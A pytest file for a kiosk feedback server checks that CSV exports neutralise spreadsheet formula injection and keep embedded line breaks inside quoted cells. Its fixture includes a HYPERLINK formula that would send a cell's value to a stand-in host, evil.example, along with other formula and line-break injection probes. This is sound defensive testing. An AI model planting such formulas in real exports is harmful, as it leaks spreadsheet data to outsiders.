"""CSV exports are safe to open in a spreadsheet: no formula runs, no value splits a record (issue #10).

Text a kiosk sent (comments, follow-up reasons, question ids) that starts with ``= + - @``, tab or CR is written
behind a ``'`` as OWASP advises; numbers stay numbers, dates and times stay ISO 8601; a CR or LF inside a value
is inside quotes.
"""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, date, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest

from server.analytics.export import _cell, to_csv

# comment sent -> the cell a spreadsheet gets
COMMENTS = {
    '=HYPERLINK("http://evil.example/?"&A1,"click")': '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1": "'+1",
    "-2": "'-2",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\tx": "'\tx",
    "\rx": "'\rx",
    "a\rb": "a\rb",
    "line1\nline2": "line1\nline2",
    "a\r\nb": "a\r\nb",
    "=1+2\r=3": "'=1+2\r=3",
    'say "hi", twice': 'say "hi", twice',
    "'already quoted": "'already quoted",
    "fine = fine": "fine = fine",
    "": "",
}
ZONE = "Europe/Oslo"


def test_to_csv_quotes_a_cr_and_an_lf_and_neutralises_formulas_but_not_numbers():
    rows = [{"comment": "\rx", "n": -20, "x": -0.5, "day": date(2026, 1, 2), "none": None, "ok": True}]

    text = to_csv(rows, ["comment"])

    assert text == 'comment,n,x,day,none,ok\r\n"\'\rx",-20,-0.5,2026-01-02,,True\r\n'


@pytest.mark.parametrize(
    ("value", "cell"),
    [("=1", "'=1"), ("+1", "'+1"), ("-1", "'-1"), ("@a", "'@a"), ("\t1", "'\t1"), ("\r1", "'\r1"), ("1-", "1-"),
     (" =1", " =1"), ("\n1", "\n1"), (-1, -1), (-0.25, -0.25), (0, 0), (None, ""),
     (datetime(2026, 1, 1, 12, tzinfo=UTC), "2026-01-01T12:00:00+00:00"), (date(1, 1, 1), "0001-01-01")],
)  # fmt: skip
def test_a_cell_neutralises_only_text_that_starts_like_a_formula(value, cell):
    assert _cell(value) == cell


def test_tap_export_neutralises_formulas_and_keeps_one_record_per_tap(client, make_location, enroll, api_key):
    location = make_location(timezone=ZONE)
    token = enroll(location).token
    noon = datetime.now(ZoneInfo(ZONE)).replace(hour=12, minute=0, second=0, microsecond=0)
    sent = [
        {"id": str(uuid.uuid4()), "seq": i + 1, "question_id": "-q" if i == 0 else "main", "scale": 5,
         "score": 1 + i % 5, "tapped_at": (noon + timedelta(minutes=i)).isoformat(), "mono_ns": i, "boot_id": "b",
         "followup": "@reason" if i == 1 else None, "comment": comment or None, "flags": []}
        for i, comment in enumerate(COMMENTS)
    ]  # fmt: skip
    params, headers = _send_and_window(client, token, sent, location, noon, api_key)

    as_csv = client.get("/api/v1/export/taps", params={**params, "format": "csv"}, headers=headers)
    as_json = client.get("/api/v1/export/taps", params=params, headers=headers).json()["items"]

    rows = list(csv.DictReader(io.StringIO(as_csv.text, newline="")))
    assert len(sent) == 14 and len(rows) == 14  # a CR never starts a new record
    by_id = {row["id"]: row for row in rows}
    for tap, (comment, cell) in zip(sent, COMMENTS.items(), strict=True):
        row = by_id[tap["id"]]
        assert row["comment"] == cell, comment
        assert row["comment"].removeprefix("'") == comment or comment == "'already quoted"
    assert by_id[sent[0]["id"]]["question_id"] == "'-q"
    assert by_id[sent[1]["id"]]["followup"] == "'@reason"
    for item in as_json:  # everything but text is as in the JSON: numbers, ISO dates and times, ids
        row = by_id[item["id"]]
        for name in ("seq", "scale", "score", "local_hour", "location_id"):
            assert row[name] == str(item[name])
        for name in ("tapped_at", "effective_at", "received_at"):
            assert datetime.fromisoformat(row[name]) == datetime.fromisoformat(item[name])
        assert (row["local_date"], row["kiosk_id"]) == (item["local_date"], item["kiosk_id"])


def test_summary_export_keeps_negative_numbers_as_numbers(client, make_location, enroll, api_key):
    location = make_location(timezone=ZONE, scale=11)
    token = enroll(location).token
    noon = datetime.now(ZoneInfo(ZONE)).replace(hour=12, minute=0, second=0, microsecond=0)
    sent = [
        {"id": str(uuid.uuid4()), "seq": i + 1, "question_id": "main", "scale": 11, "score": score,
         "tapped_at": noon.isoformat(), "mono_ns": i, "boot_id": "b", "followup": None, "comment": None, "flags": []}
        for i, score in enumerate([0, 0, 3, 6, 10])
    ]  # fmt: skip
    params, headers = _send_and_window(client, token, sent, location, noon, api_key)

    as_csv = client.get("/api/v1/export/summaries", params={**params, "format": "csv"}, headers=headers)
    [item] = client.get("/api/v1/export/summaries", params=params, headers=headers).json()["items"]

    [row] = list(csv.DictReader(io.StringIO(as_csv.text, newline="")))
    assert item["nps"] == pytest.approx(-60.0)  # 1 promoter, 4 detractors of 5
    assert row["nps"] == str(item["nps"]) and row["nps"].startswith("-")
    assert row["responses"] == "5" and row["local_date"] == params["start"]


def _send_and_window(client, token, sent, location, noon, api_key):
    """Post the taps as a kiosk; the export parameters of their local day and the API key's headers."""
    body = {"sent_at": datetime.now(UTC).isoformat(), "boot_id": "b2", "mono_ns": 10**12, "taps": sent}
    assert client.post("/api/v1/taps", json=body, headers={"Authorization": f"Bearer {token}"}).status_code == 200
    day = noon.date()
    params = {"location_id": location, "start": str(day), "end": str(day + timedelta(days=1))}
    return params, {"Authorization": f"Bearer {api_key}"}
